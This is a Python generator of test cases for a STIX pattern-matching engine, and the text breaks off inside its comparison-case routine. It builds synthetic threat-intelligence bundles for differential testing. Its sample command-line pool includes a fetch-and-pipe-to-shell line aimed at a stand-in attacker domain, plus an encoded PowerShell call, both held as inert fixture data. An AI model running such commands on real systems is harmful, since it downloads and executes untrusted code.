#!/usr/bin/env python3
"""Deterministic generator of (pattern, observed-data bundle) cases for the pattern-engine differential test.

Writes one JSON object per line: {"id", "pattern", "objects"} where "objects" is the "objects" array of a STIX 2.1
bundle: observed-data SDOs (with object_refs) followed by the SCOs they reference (and a few they do not).

The output is committed as crates/stixhub/test_data/pattern-cases.jsonl so that the Rust test does not need this
script; re-running it with the same SEED must reproduce the file byte for byte:

    python3 crates/stixhub/tests/oracle/gen_pattern_cases.py > crates/stixhub/test_data/pattern-cases.jsonl

Only the Python standard library is used. The verdicts are not computed here: the oracle (stix2-matcher, run by
pattern_oracle.py) decides them; this script only aims for a mix of matching and non-matching cases.

Case-id prefixes say what a case exercises:
  cmp-<op>[-not]-NNNN   one comparison (every operator, with and without NOT) against one observed-data
  exists[-not]-NNNN     EXISTS / NOT EXISTS
  path-NNNN             list indexes, [*], quoted steps, _ref/_refs dereferencing, missing paths
  lit-NNNN              literal kinds against properties of every type (type mismatches, _bin/_hex, timestamps)
  cidr-NNNN             ISSUBSET / ISSUPERSET on IPv4 and IPv6
  bool-NNNN             AND / OR inside one observation (same-root rule), nested parentheses
  obs-NNNN              observation AND / OR / FOLLOWEDBY over several observed-data
  within-NNNN, repeats-NNNN, startstop-NNNN, qual-NNNN   qualifiers, alone and combined
  edge-NNNN             hand-written corner cases (boundaries, NFC, DOTALL, error paths)
"""

import base64
import json
import random
import sys
import unicodedata
import uuid
from datetime import datetime, timedelta, timezone

SEED = 20261125
BASE_TIME = datetime(2026, 3, 1, 12, 0, 0, tzinfo=timezone.utc)


# ----------------------------------------------------------------------------------------------------------------
# Small helpers


class Rng(random.Random):
    def uuid4(self):
        return str(uuid.UUID(int=self.getrandbits(128), version=4))

    def chance(self, p):
        return self.random() < p


def ts(offset_seconds, frac_digits=None):
    """A STIX timestamp string `offset_seconds` after BASE_TIME (float seconds allowed)."""
    dt = BASE_TIME + timedelta(microseconds=round(offset_seconds * 1_000_000))
    text = dt.strftime("%Y-%m-%dT%H:%M:%S")
    if frac_digits is None:
        frac_digits = 3 if dt.microsecond % 1000 == 0 else 6
    if dt.microsecond and frac_digits == 0:
        frac_digits = 6
    if frac_digits:
        text += "." + f"{dt.microsecond:06d}"[:frac_digits].ljust(frac_digits, "0")
    return text + "Z"


def str_lit(s):
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def float_lit(x):
    text = f"{x:.6f}".rstrip("0")
    if text.endswith("."):
        text += "0"
    return text


def key_step(key, force_quote=False):
    if force_quote or not key.replace("_", "a").isalnum() or not key.isascii() or key[0].isdigit():
        return "." + str_lit(key)
    return "." + key


def regex_escape(s):
    out = []
    for c in s:
        if c in ".^$*+?()[]{}|\\/":
            out.append("\\" + c)
        elif c == "\n":
            out.append("\\n")
        elif c == "\t":
            out.append("\\t")
        else:
            out.append(c)
    return "".join(out)


# ----------------------------------------------------------------------------------------------------------------
# Value pools

FILE_NAMES = [
    "report.pdf", "invoice.exe", "O'Brien.doc", "café.txt", "cafe\u0301.txt", "数据.zip", "\U0001F600.png",
    "a%b_c.txt", "dot.in.name.tar.gz", "UPPER.EXE", "line1\nline2.txt", "tab\tname.bin", "",
    "[brackets](x).js", "\u0278-phi.dat", "\u00ff\u0100.bin", "a*b?.txt", "back\\slash.dll", "svchost.exe",
    "Zoë.docx", "zoe\u0308.docx", "\uFFFD.raw", "ﬁle.txt", "quote'and\\both.txt",
]
DOMAINS = [
    "evil.example.com", "good.example.org", "xn--caf-dma.example", "münchen.example", "a-b.c-d.example",
    "EXAMPLE.NET", "sub.evil.example.com", "localhost",
]
URLS = [
    "http://evil.example.com/path?q=1", "https://example.org/a%20b", "ftp://files.example.net/pub/x.tar.gz",
    "http://198.51.100.7:8080/gate.php", "https://münchen.example/über", "http://example.com/a_b%c",
]
EMAILS = ["alice@example.com", "bob.o'neil@example.org", "ünïcödé@example.de", "ceo@evil.example.com",
          "Mallory <m@example.net>"]
DISPLAY_NAMES = ["Alice", "Bob O'Neil", "Zoë", "陳大文", "Mallory"]
SUBJECTS = ["Invoice 2026-03", "Re: urgent!!", "Ünïcode subject", "Final Report (draft)", "", "multi\nline"]
COMMANDS = ['cmd.exe /c "whoami"', "powershell -enc SQBFAFgA", "python3 -c 'print(1)'",
            "C:\\Windows\\System32\\rundll32.exe x.dll,Run", "/bin/sh -c 'curl http://evil.example.com|sh'"]
REG_KEYS = ["HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "HKEY_CURRENT_USER\\Software\\Evil", "hkey_local_machine\\system\\bad"]
MIME_TYPES = ["application/x-dosexec", "application/pdf", "text/plain", "application/zip"]
SOFTWARE = [("Word", "cpe:2.3:a:microsoft:word:2000:*:*:*:*:*:*:*", "Microsoft"),
            ("curl", "cpe:2.3:a:haxx:curl:8.5.0:*:*:*:*:*:*:*", "haxx"),
            ("Ünïcode Suite", "cpe:2.3:a:x:y:1:*:*:*:*:*:*:*", "X")]
MUTEXES = ["Global\\MsWinZonesCacheCounterMutexA", "__evil__", "mutex'quote"]
PROTOCOLS = [["ipv4", "tcp"], ["ipv4", "tcp", "http"], ["ipv6", "udp", "dns"], ["ipv4", "tcp", "ssl", "https"]]
NETS4 = ["10.0.0.0/8", "192.168.0.0/16", "198.51.100.0/24", "203.0.113.0/24", "172.16.0.0/12"]
IPV6 = ["2001:db8::1", "2001:db8::abcd:1", "fe80::1ff:fe23:4567:890a", "2001:db8:1:2:3:4:5:6", "::1",
        "2001:db8::/32", "2001:db8:abcd::/48"]


def rand_ipv4(r, cidr_chance=0.15):
    net = r.choice(NETS4)
    base, plen = net.split("/")
    plen = int(plen)
    b = [int(x) for x in base.split(".")]
    n = (b[0] << 24) | (b[1] << 16) | (b[2] << 8) | b[3]
    host = r.getrandbits(32 - plen)
    n |= host
    ip = ".".join(str((n >> s) & 255) for s in (24, 16, 8, 0))
    if r.chance(cidr_chance):
        p = r.choice([16, 24, 27, 28, 30, 32])
        mask = ((1 << p) - 1) << (32 - p)
        nn = n & mask
        return ".".join(str((nn >> s) & 255) for s in (24, 16, 8, 0)) + f"/{p}"
    return ip


def rand_hex(r, nbytes, upper=None):
    h = "".join(f"{r.getrandbits(8):02x}" for _ in range(nbytes))
    if upper is None:
        upper = r.chance(0.5)
    return h.upper() if upper else h


def rand_bytes(r, n):
    return bytes(r.getrandbits(8) for _ in range(n))


# ----------------------------------------------------------------------------------------------------------------
# SCO world


class World:
    """The SCOs of one case and their observed-data."""

    def __init__(self, r):
        self.r = r
        self.scos = []
        self.by_id = {}
        self.hidden = set()  # ids deliberately left out of every object_refs
        self.observed = []

    def add(self, type_, props, hidden=False):
        oid = f"{type_}--{self.r.uuid4()}"
        obj = {"type": type_, "id": oid}  # spec_version is optional on SCOs
        obj.update(props)
        self.scos.append(obj)
        self.by_id[oid] = obj
        if hidden:
            self.hidden.add(oid)
        return obj

    def observe(self, refs, start=0.0, end=None, n=1, frac=None):
        """An observed-data over `refs` (ids), first_observed at BASE+start, last_observed at BASE+end."""
        if end is None:
            end = start
        od = {
            "type": "observed-data",
            "spec_version": "2.1",
            "id": f"observed-data--{self.r.uuid4()}",
            "created": ts(start, 0),
            "modified": ts(start, 0),
            "first_observed": ts(start, frac),
            "last_observed": ts(end, frac),
            "number_observed": n,
            "object_refs": list(refs),
        }
        self.observed.append(od)
        return od

    def closure(self, root_id):
        """Ids reachable from root_id through *_ref / *_refs (excluding hidden ones)."""
        seen = []
        stack = [root_id]
        while stack:
            oid = stack.pop()
            if oid in seen or oid not in self.by_id or oid in self.hidden:
                continue
            seen.append(oid)
            for ref in refs_of(self.by_id[oid]):
                stack.append(ref)
        return seen

    def objects(self):
        return self.observed + self.scos


def refs_of(obj):
    out = []

    def walk(v, key=""):
        if isinstance(v, dict):
            for k, x in v.items():
                walk(x, k)
        elif isinstance(v, list):
            for x in v:
                walk(x, key)
        elif isinstance(v, str) and (key.endswith("_ref") or key.endswith("_refs")) and "--" in v:
            out.append(v)

    for k, v in obj.items():
        if k not in ("id",):
            walk(v, k)
    return out


def maybe(r, p, props, key, value):
    if r.chance(p):
        props[key] = value


def build_ipv4(w, hidden=False):
    r = w.r
    props = {"value": rand_ipv4(r)}
    if r.chance(0.2):
        mac = w.add("mac-addr", {"value": ":".join(rand_hex(r, 1, False) for _ in range(6))})
        props["resolves_to_refs"] = [mac["id"]]
    return w.add("ipv4-addr", props, hidden)


def build_ipv6(w, hidden=False):
    return w.add("ipv6-addr", {"value": w.r.choice(IPV6)}, hidden)


def build_directory(w, hidden=False):
    r = w.r
    props = {"path": r.choice(["C:\\Windows\\System32", "/tmp", "C:\\Users\\Zoë\\AppData", "/var/www/html"])}
    maybe(r, 0.5, props, "ctime", ts(r.randint(-86400, 86400), r.choice([0, 3, 6])))
    maybe(r, 0.3, props, "path_enc", "UTF-8")
    return w.add("directory", props, hidden)


def build_file(w, hidden=False, depth=0):
    r = w.r
    props = {}
    maybe(r, 0.9, props, "name", r.choice(FILE_NAMES))
    maybe(r, 0.7, props, "size", r.choice([0, 1, 255, 256, 1024, 4112, 25145, 33312, 2**31, 2**40 + 7]))
    if r.chance(0.7):
        hashes = {}
        for alg, nb in r.sample([("MD5", 16), ("SHA-1", 20), ("SHA-256", 32), ("SHA3-256", 32)], r.randint(1, 3)):
            hashes[alg] = rand_hex(r, nb)
        props["hashes"] = hashes
    maybe(r, 0.4, props, "mime_type", r.choice(MIME_TYPES))
    maybe(r, 0.4, props, "ctime", ts(r.randint(-86400, 86400) + r.choice([0, 0.5, 0.001]), r.choice([None, 0, 3, 6])))
    maybe(r, 0.3, props, "magic_number_hex", r.choice(["4D5A", "25504446", "7f454c46", "504B0304", "00"]))
    maybe(r, 0.2, props, "x_score", r.choice([0.0, 0.5, 7.25, -1.5, 99.999, 3.0]))
    maybe(r, 0.2, props, "x_flag", r.chance(0.5))
    maybe(r, 0.2, props, "x_tags", r.sample(["apt", "Apt", "crimeware", "ünï", "", "x'y"], r.randint(0, 3)))
    if depth == 0 and r.chance(0.3):
        props["parent_directory_ref"] = build_directory(w, hidden=r.chance(0.15))["id"]
    ext = {}
    if r.chance(0.3):
        ext["windows-pebinary-ext"] = {
            "pe_type": r.choice(["exe", "dll"]),
            "number_of_sections": 2,
            "sections": [
                {"name": ".text", "entropy": r.choice([6.5, 7.2, 7.9]), "size": r.choice([4096, 8192])},
                {"name": ".data", "entropy": r.choice([0.5, 1.0, 3.25]), "size": 512},
            ],
        }
    if depth == 0 and r.chance(0.2):
        inner = [build_file(w, hidden=r.chance(0.1), depth=1)["id"] for _ in range(r.randint(1, 3))]
        ext["archive-ext"] = {"contains_refs": inner, "comment": r.choice(["zipped", "ünïcode comment", ""])}
    if r.chance(0.15):
        ext["ntfs-ext"] = {"alternate_data_streams": [{"name": "Zone.Identifier", "size": r.choice([26, 64])}]}
    if ext:
        props["extensions"] = ext
    if not props:
        props["name"] = "empty.bin"
    return w.add("file", props, hidden)


def build_artifact(w, hidden=False):
    r = w.r
    payload = r.choice([b"this is a test", b"MZ\x90\x00\x03", rand_bytes(r, r.randint(1, 12)), "café".encode(),
                        b"line\nbreak", b"\xff\xfe\x00"])
    props = {"mime_type": "application/octet-stream", "payload_bin": base64.b64encode(payload).decode()}
    maybe(r, 0.4, props, "hashes", {"MD5": rand_hex(r, 16)})
    maybe(r, 0.3, props, "x_key_hex", rand_hex(r, r.randint(1, 6)))
    return w.add("artifact", props, hidden)


def build_email_addr(w, hidden=False):
    r = w.r
    props = {"value": r.choice(EMAILS)}
    maybe(r, 0.5, props, "display_name", r.choice(DISPLAY_NAMES))
    return w.add("email-addr", props, hidden)


def build_email_message(w, hidden=False):
    r = w.r
    props = {"is_multipart": r.chance(0.5)}
    maybe(r, 0.5, props, "date", ts(r.randint(-3600, 3600), r.choice([0, 3])))
    maybe(r, 0.7, props, "subject", r.choice(SUBJECTS))
    maybe(r, 0.4, props, "content_type", "multipart/mixed")
    if r.chance(0.85):
        props["from_ref"] = build_email_addr(w, hidden=r.chance(0.1))["id"]
    if r.chance(0.7):
        props["to_refs"] = [build_email_addr(w, hidden=r.chance(0.1))["id"] for _ in range(r.randint(1, 3))]
    if r.chance(0.3):
        props["cc_refs"] = [build_email_addr(w)["id"]]
    if r.chance(0.3):
        props["additional_header_fields"] = {"Reply-To": [r.choice(EMAILS)], "X-Mailer": "Mutt/1.5"}
    if r.chance(0.4):
        parts = [{"content_type": "text/plain; charset=utf-8", "body": r.choice(["Hello", "ünï body", "x\ny"])}]
        if r.chance(0.7):
            raw = build_file(w, depth=1) if r.chance(0.5) else build_artifact(w)
            parts.append({"content_type": "application/octet-stream",
                          "content_disposition": "attachment; filename=\"x\"", "body_raw_ref": raw["id"]})
        props["body_multipart"] = parts
    return w.add("email-message", props, hidden)


def build_network_traffic(w, hidden=False):
    r = w.r
    props = {}
    if r.chance(0.85):
        props["src_ref"] = (build_ipv4(w, hidden=r.chance(0.1)) if r.chance(0.8) else build_ipv6(w))["id"]
    if r.chance(0.85):
        props["dst_ref"] = (build_ipv4(w, hidden=r.chance(0.1)) if r.chance(0.7)
                            else w.add("domain-name", {"value": r.choice(DOMAINS)}))["id"]
    maybe(r, 0.7, props, "src_port", r.choice([0, 53, 80, 443, 8080, 49152, 65535]))
    maybe(r, 0.7, props, "dst_port", r.choice([0, 53, 80, 443, 8080, 49152, 65535]))
    props["protocols"] = r.choice(PROTOCOLS)
    maybe(r, 0.3, props, "src_byte_count", r.choice([0, 147600, 2**33]))
    maybe(r, 0.3, props, "start", ts(r.randint(-60, 60), r.choice([0, 3])))
    maybe(r, 0.3, props, "is_active", r.chance(0.5))
    if r.chance(0.3):
        props["ipfix"] = {"minimumIpTotalLength": 32, "maximumIpTotalLength": r.choice([2556, 1500])}
    ext = {}
    if r.chance(0.3):
        ext["http-request-ext"] = {
            "request_method": r.choice(["get", "post", "GET"]),
            "request_value": r.choice(["/download.php", "/a b", "/über"]),
            "request_header": {"User-Agent": r.choice(["Mozilla/5.0", "curl/8.5"]), "Accept-Encoding": "gzip"},
        }
    if r.chance(0.2):
        ext["tcp-ext"] = {"src_flags_hex": r.choice(["00000002", "12", "ff"])}
    if ext:
        props["extensions"] = ext
    return w.add("network-traffic", props, hidden)


def build_process(w, hidden=False):
    r = w.r
    props = {}
    maybe(r, 0.7, props, "pid", r.choice([0, 4, 1221, 31337, 65536]))
    maybe(r, 0.6, props, "command_line", r.choice(COMMANDS))
    maybe(r, 0.3, props, "is_hidden", r.chance(0.5))
    maybe(r, 0.3, props, "created_time", ts(r.randint(-600, 600), r.choice([0, 3, 6])))
    maybe(r, 0.3, props, "cwd", r.choice(["C:\\Windows\\System32", "/tmp"]))
    if r.chance(0.3):
        props["environment_variables"] = {"PATH": "/usr/bin:/bin", "LANG": r.choice(["C.UTF-8", "de_DE.UTF-8"])}
    if r.chance(0.5):
        props["image_ref"] = build_file(w, depth=1, hidden=r.chance(0.1))["id"]
    if r.chance(0.2):
        props["creator_user_ref"] = build_user(w)["id"]
    if not props:
        props["pid"] = 7
    return w.add("process", props, hidden)


def build_user(w, hidden=False):
    r = w.r
    props = {"user_id": r.choice(["1001", "0", "S-1-5-21-1004", "zoë"])}
    maybe(r, 0.5, props, "account_login", r.choice(["root", "jdoe", "Zoë"]))
    maybe(r, 0.4, props, "is_privileged", r.chance(0.5))
    maybe(r, 0.3, props, "account_created", ts(r.randint(-10**6, 0), r.choice([0, 3])))
    if r.chance(0.3):
        props["extensions"] = {"unix-account-ext": {"gid": r.choice([0, 100, 1001]),
                                                    "groups": r.sample(["wheel", "adm", "users"], 2)}}
    return w.add("user-account", props, hidden)


def build_registry(w, hidden=False):
    r = w.r
    props = {"key": r.choice(REG_KEYS)}
    if r.chance(0.7):
        props["values"] = [
            {"name": r.choice(["Updater", "", "Ünï"]), "data": r.choice(["C:\\Users\\x\\a.exe", "1", "%TEMP%\\y"]),
             "data_type": "REG_SZ"}
            for _ in range(r.randint(1, 3))
        ]
    maybe(r, 0.3, props, "modified_time", ts(r.randint(-600, 600), 0))
    maybe(r, 0.3, props, "number_of_subkeys", r.choice([0, 2, 15]))
    return w.add("windows-registry-key", props, hidden)


def build_domain(w, hidden=False):
    r = w.r
    props = {"value": r.choice(DOMAINS)}
    if r.chance(0.4):
        props["resolves_to_refs"] = [
            (build_ipv4(w, hidden=r.chance(0.15)) if r.chance(0.8) else build_ipv6(w))["id"]
            for _ in range(r.randint(1, 3))
        ]
    return w.add("domain-name", props, hidden)


def build_url(w, hidden=False):
    return w.add("url", {"value": w.r.choice(URLS)}, hidden)


def build_software(w, hidden=False):
    r = w.r
    name, cpe, vendor = r.choice(SOFTWARE)
    props = {"name": name, "cpe": cpe, "vendor": vendor}
    maybe(r, 0.5, props, "version", r.choice(["2002", "8.5.0", "1.10", "1.9"]))
    maybe(r, 0.5, props, "languages", r.sample(["eng", "deu", "fra", "jpn"], r.randint(1, 3)))
    return w.add("software", props, hidden)


def build_mutex(w, hidden=False):
    return w.add("mutex", {"name": w.r.choice(MUTEXES)}, hidden)


def build_as(w, hidden=False):
    r = w.r
    return w.add("autonomous-system", {"number": r.choice([15139, 64496, 4294967295]),
                                       "name": r.choice(["Slime Industries", "Ünï Net"]), "rir": "ARIN"}, hidden)


def build_x509(w, hidden=False):
    r = w.r
    props = {"serial_number": ":".join(rand_hex(r, 1, False) for _ in range(8)),
             "hashes": {"SHA-256": rand_hex(r, 32)},
             "version": r.choice(["3", "1"])}
    maybe(r, 0.6, props, "validity_not_before", ts(r.randint(-10**7, 0), 0))
    maybe(r, 0.6, props, "validity_not_after", ts(r.randint(1, 10**7), 0))
    maybe(r, 0.4, props, "is_self_signed", r.chance(0.5))
    if r.chance(0.3):
        props["x509_v3_extensions"] = {"basic_constraints": "critical,CA:TRUE, pathlen:0",
                                       "private_key_usage_period_not_before": ts(-5000, 0)}
    return w.add("x509-certificate", props, hidden)


BUILDERS = [
    (build_file, 8), (build_network_traffic, 5), (build_email_message, 4), (build_ipv4, 3), (build_ipv6, 1),
    (build_domain, 3), (build_url, 2), (build_process, 3), (build_artifact, 2), (build_registry, 2),
    (build_user, 2), (build_software, 1), (build_mutex, 1), (build_as, 1), (build_x509, 2), (build_directory, 1),
    (build_email_addr, 1),
]


def random_root(w):
    builders, weights = zip(*BUILDERS)
    return w.r.choices(builders, weights)[0](w)


# ----------------------------------------------------------------------------------------------------------------
# Leaves: every (path text, values) reachable from a root SCO


def kind_of(key, value):
    if isinstance(value, bool):
        return "bool"
    if isinstance(value, int):
        return "int"
    if isinstance(value, float):
        return "float"
    if isinstance(value, str):
        if key.endswith("_bin"):
            return "bin"
        if key.endswith("_hex"):
            return "hex"
        if len(value) >= 20 and value[4:5] == "-" and value[10:11] == "T" and value.endswith("Z"):
            return "ts"
        return "str"
    if isinstance(value, list):
        return "list"
    if isinstance(value, dict):
        return "dict"
    return "other"


class Leaf:
    def __init__(self, path, values, kind, key, via_ref, star):
        self.path = path        # text after "type:" (without the type)
        self.values = values    # candidate values (several when the path has [*])
        self.kind = kind
        self.key = key
        self.via_ref = via_ref
        self.star = star


def leaves(w, obj, prefix="", depth=0, via_ref=False, star=False, key_quote_p=0.15):
    r = w.r
    out = []
    for key, value in obj.items():
        if key in ("type", "id", "spec_version"):
            continue
        first = prefix == ""
        step = key_step(key, force_quote=r.chance(key_quote_p))
        step = step[1:] if first else step
        path = prefix + step
        if key.endswith("_ref") and isinstance(value, str):
            target = w.by_id.get(value)
            if target is not None and depth < 2:
                out.extend(leaves(w, target, path, depth + 1, True, star))
            continue
        if key.endswith("_refs") and isinstance(value, list):
            if depth >= 2:
                continue
            for i, ref in enumerate(value):
                target = w.by_id.get(ref)
                if target is not None:
                    out.extend(leaves(w, target, f"{path}[{i}]", depth + 1, True, star))
            # [*]: the values of all referenced objects (only for the first one's key set)
            targets = [w.by_id[x] for x in value if x in w.by_id]
            if targets:
                for sub in leaves(w, targets[0], f"{path}[*]", depth + 1, True, True):
                    vals = []
                    for t in targets:
                        for s2 in leaves_plain(t):
                            if s2[0] == sub.key:
                                vals.append(s2[1])
                    sub.values = vals or sub.values
                    out.append(sub)
            continue
        kind = kind_of(key, value)
        if kind == "dict":
            out.extend(leaves(w, value, path, depth, via_ref, star))
        elif kind == "list":
            if not value:
                continue
            for i, e in enumerate(value):
                if isinstance(e, dict):
                    out.extend(leaves(w, e, f"{path}[{i}]", depth, via_ref, star))
                else:
                    out.append(Leaf(f"{path}[{i}]", [e], kind_of(key, e), key, via_ref, star))
            if isinstance(value[0], dict):
                for sub in leaves(w, value[0], f"{path}[*]", depth, via_ref, True):
                    sub.values = [e.get(sub.key) for e in value if isinstance(e, dict) and sub.key in e]
                    out.append(sub)
            else:
                out.append(Leaf(f"{path}[*]", list(value), kind_of(key, value[0]), key, via_ref, True))
        else:
            out.append(Leaf(path, [value], kind, key, via_ref, star))
    return out


def leaves_plain(obj):
    for k, v in obj.items():
        if not isinstance(v, (dict, list)):
            yield k, v


# ----------------------------------------------------------------------------------------------------------------
# Literals

def lit_of(kind, value):
    if kind in ("str",):
        return str_lit(value)
    if kind == "int":
        return str(value)
    if kind == "float":
        return float_lit(value)
    if kind == "bool":
        return "true" if value else "false"
    if kind == "ts":
        return f"t'{value}'"
    if kind == "hexlit":
        return f"h'{value.hex()}'"
    if kind == "binlit":
        return f"b'{base64.b64encode(value).decode()}'"
    raise ValueError(kind)


def decode_binary(kind, value):
    if kind == "bin":
        return base64.b64decode(value)
    return bytes.fromhex(value)


def perturb_str(r, s):
    choices = [
        lambda: s + "x",
        lambda: s[:-1] if s else "a",
        lambda: s.upper() if s.upper() != s else s.lower() + "q",
        lambda: (s[:-1] + chr(ord(s[-1]) + 1)) if s and ord(s[-1]) < 0x10FFFF and not 0xD7FF <= ord(s[-1]) < 0xE000
        else "b",
        lambda: (s[:-1] + chr(ord(s[-1]) - 1)) if s and ord(s[-1]) > 0x21 and not 0xE000 <= ord(s[-1]) <= 0xE001
        else "",
        lambda: unicodedata.normalize("NFD", s) if unicodedata.normalize("NFD", s) != s
        else unicodedata.normalize("NFC", s) + "\u0301",
        lambda: r.choice(FILE_NAMES + DOMAINS),
    ]
    return r.choice(choices)()


def other_kind_literal(r, kind):
    """A literal of a kind different from `kind` (a type mismatch)."""
    options = {
        "str": ["1", "1.5", "true", "h'00'", "b'AA=='", "0"],
        "int": ["'1'", "true", "t'2026-03-01T12:00:00Z'", "h'01'", "'0'"],
        "float": ["'7.25'", "false", "h'00'", "t'2026-03-01T12:00:00Z'"],
        "bool": ["1", "0", "'true'", "1.0", "h'01'"],
        "ts": ["'2026-03-01T12:00:00Z'", "0", "true"],
        "hex": ["1", "true", "1.5", "t'2026-03-01T12:00:00Z'"],
        "bin": ["1", "false", "2.5"],
    }
    return r.choice(options.get(kind, ["1"]))


def eq_literal(r, leaf, want_match, form=None):
    """A literal for =/!=/IN on `leaf`: equal to one of its values, or not."""
    v = r.choice(leaf.values)
    k = leaf.kind
    if k == "str":
        return str_lit(v if want_match else perturb_str(r, v))
    if k == "int":
        if want_match:
            return r.choice([str(v), float_lit(float(v))]) if abs(v) < 2**50 else str(v)
        return str(v + r.choice([-1, 1, 2**32]))
    if k == "float":
        if want_match:
            return float_lit(v) if v != int(v) or r.chance(0.5) else str(int(v))
        return float_lit(v + r.choice([-0.25, 0.001, 1.0]))
    if k == "bool":
        return lit_of("bool", v if want_match else not v)
    if k == "ts":
        if want_match:
            return f"t'{reformat_ts(r, v)}'"
        return f"t'{shift_ts(v, r.choice([-1, 1, 0.001, -0.001, 3600]))}'"
    if k in ("bin", "hex"):
        b = decode_binary(k, v)
        if not want_match:
            b = b + b"\x00" if r.chance(0.5) or not b else b[:-1] + bytes([(b[-1] + 1) % 256])
        form = form or r.choice(["hexlit", "binlit", "strconv"])
        if form == "strconv":
            return str_lit(b.decode("latin-1"))
        if form == "binlit" and not b:
            return "b'AA=='"
        return lit_of(form, b)
    return str_lit(str(v))


def parse_ts(s):
    body = s[:-1]
    if "." in body:
        main, frac = body.split(".")
        frac = (frac + "000000")[:6]
    else:
        main, frac = body, "000000"
    dt = datetime.strptime(main, "%Y-%m-%dT%H:%M:%S").replace(tzinfo=timezone.utc)
    return dt + timedelta(microseconds=int(frac))


def fmt_dt(dt, digits):
    text = dt.strftime("%Y-%m-%dT%H:%M:%S")
    if digits:
        text += "." + f"{dt.microsecond:06d}"[:digits]
    return text + "Z"


def reformat_ts(r, s):
    dt = parse_ts(s)
    need = 0 if dt.microsecond == 0 else (3 if dt.microsecond % 1000 == 0 else 6)
    return fmt_dt(dt, r.choice([d for d in (0, 3, 6) if d >= need]))


def shift_ts(s, seconds):
    dt = parse_ts(s) + timedelta(seconds=seconds)
    return fmt_dt(dt, 0 if dt.microsecond == 0 else 6)


def order_literal(r, leaf):
    """A literal for < <= > >=: below, equal to or above one of the leaf's values."""
    v = r.choice(leaf.values)
    k = leaf.kind
    rel = r.choice([-1, 0, 1])
    if k == "str":
        if rel == 0:
            return str_lit(v)
        return str_lit(perturb_str(r, v))
    if k == "int":
        if r.chance(0.2):
            return float_lit(v + rel * 0.5)
        return str(v + rel)
    if k == "float":
        if r.chance(0.2):
            return str(int(v) + rel)
        return float_lit(v + rel * 0.125)
    if k == "ts":
        return f"t'{shift_ts(v, rel * r.choice([1, 0.001, 86400]))}'" if rel else f"t'{reformat_ts(r, v)}'"
    if k in ("bin", "hex"):
        b = decode_binary(k, v)
        if rel < 0:
            b = b[:-1]
        elif rel > 0:
            b = b + b"\x00"
        if r.chance(0.3) and all(c < 0x80 for c in b):
            return str_lit(b.decode("latin-1"))
        return lit_of(r.choice(["hexlit", "binlit"]), b)
    if k == "bool":
        return r.choice(["1", "0"])  # bool cannot be ordered: a type mismatch
    return "1"


def like_literal(r, leaf, want_match):
    v = r.choice(leaf.values)
    if leaf.kind in ("bin", "hex"):
        v = decode_binary(leaf.kind, v).decode("latin-1")
    if not isinstance(v, str):
        return str_lit(str(v)) if want_match else "'%'"
    s = v
    if not want_match:
        s = perturb_str(r, s)
    if s and r.chance(0.7):
        i = r.randrange(len(s))
        j = r.randrange(i, len(s) + 1)
        form = r.choice(["pct", "under", "both", "nfc"])
        if form == "pct":
            s = s[:i] + "%" + s[j:]
        elif form == "under":
            s = s[:i] + "_" + s[i + 1:]
        elif form == "both":
            s = "%" + s[i:j] + "_" * min(1, len(s) - j) + "%"
        else:
            s = unicodedata.normalize(r.choice(["NFC", "NFD"]), s)
    elif r.chance(0.2):
        s = "%"
    return str_lit(s)


def matches_literal(r, leaf, want_match):
    v = r.choice(leaf.values)
    binary = leaf.kind in ("bin", "hex")
    if binary:
        b = decode_binary(leaf.kind, v)
        if want_match:
            if not b:
                return str_lit("^$")
            i = r.randrange(len(b))
            return str_lit("".join(f"\\x{c:02x}" for c in b[i:i + 3]) if r.chance(0.6)
                           else "^" + "".join(f"\\x{c:02x}" for c in b[:2]))
        return str_lit("^\\xde\\xad\\xbe\\xef")
    if not isinstance(v, str):
        return str_lit(r.choice(["^1", "\\d+", "true"]))
    s = v if want_match else perturb_str(r, v)
    forms = []
    if s:
        i = r.randrange(len(s))
        j = r.randrange(i, len(s) + 1)
        forms += [
            regex_escape(s[i:j]),
            "^" + regex_escape(s[:j]),
            regex_escape(s[i:]) + "$",
            "^" + regex_escape(s) + "$",
            "(?i)^" + regex_escape(s.swapcase()) + "$",
            "^" + regex_escape(s[:i]) + ".*" + regex_escape(s[j:]) + "$",
            "^" + regex_escape(s[:i]) + "." + regex_escape(s[i + 1:]) + "$",
            "^[^/]{" + str(len(s)) + "}$",
            "\\w+",
            "^\\S+$",
            "(" + regex_escape(s[:j]) + "|nomatch)",
            "^" + regex_escape(unicodedata.normalize("NFD", s)) + "$",
        ]
    else:
        forms += ["^$", ".", "^.*$"]
    return str_lit(r.choice(forms))


# ----------------------------------------------------------------------------------------------------------------
# Case assembly


class Gen:
    def __init__(self):
        self.r = Rng(SEED)
        self.cases = []
        self.counters = {}

    def emit(self, family, pattern, w):
        n = self.counters.get(family, 0) + 1
        self.counters[family] = n
        self.cases.append({"id": f"{family}-{n:04d}", "pattern": pattern, "objects": w.objects()})

    def single_world(self, builder=None, distractor_p=0.3):
        """A world with one root SCO observed once; returns (world, root, observed-data)."""
        r = self.r
        w = World(r)
        root = builder(w) if builder else random_root(w)
        refs = w.closure(root["id"])
        if r.chance(distractor_p):
            d = BUILDER_BY_TYPE[root["type"]](w)
            refs += w.closure(d["id"])
        # a few unrelated SCOs
        if r.chance(0.2):
            extra = random_root(w)
            refs += w.closure(extra["id"])
        seen = []
        for x in refs:
            if x not in seen:
                seen.append(x)
        start = r.choice([0, 5, 3600])
        w.observe(seen, start, start + r.choice([0, 0, 10]), n=r.choice([1, 1, 1, 2]))
        return w, root

    # -- comparisons ------------------------------------------------------------------------------------------

    def gen_cmp(self, n_per):
        r = self.r
        ops = [("=", "eq"), ("==", "eq2"), ("!=", "ne"), ("<>", "ne2"), ("<", "lt"), ("<=", "le"), (">", "gt"),
               (">=", "ge"), ("IN", "in"), ("LIKE", "like"), ("MATCHES", "matches")]
        for op, name in ops:
            for negated in (False, True):
                fam = f"cmp-{name}" + ("-not" if negated else "")
                made = 0
                attempts = 0
                while made < n_per and attempts < n_per * 50:
                    attempts += 1
                    w, root = self.single_world()
                    ls = leaves(w, root)
                    if op in ("<", "<=", ">", ">="):
                        ok = [x for x in ls if x.kind in ("str", "int", "float", "ts", "bin", "hex")
                              or r.chance(0.05)]
                    elif op in ("LIKE", "MATCHES"):
                        ok = [x for x in ls if x.kind == "str" or (op == "MATCHES" and x.kind in ("bin", "hex"))
                              or r.chance(0.03)]
                    else:
                        ok = ls
                    if not ok:
                        continue
                    leaf = r.choice(ok)
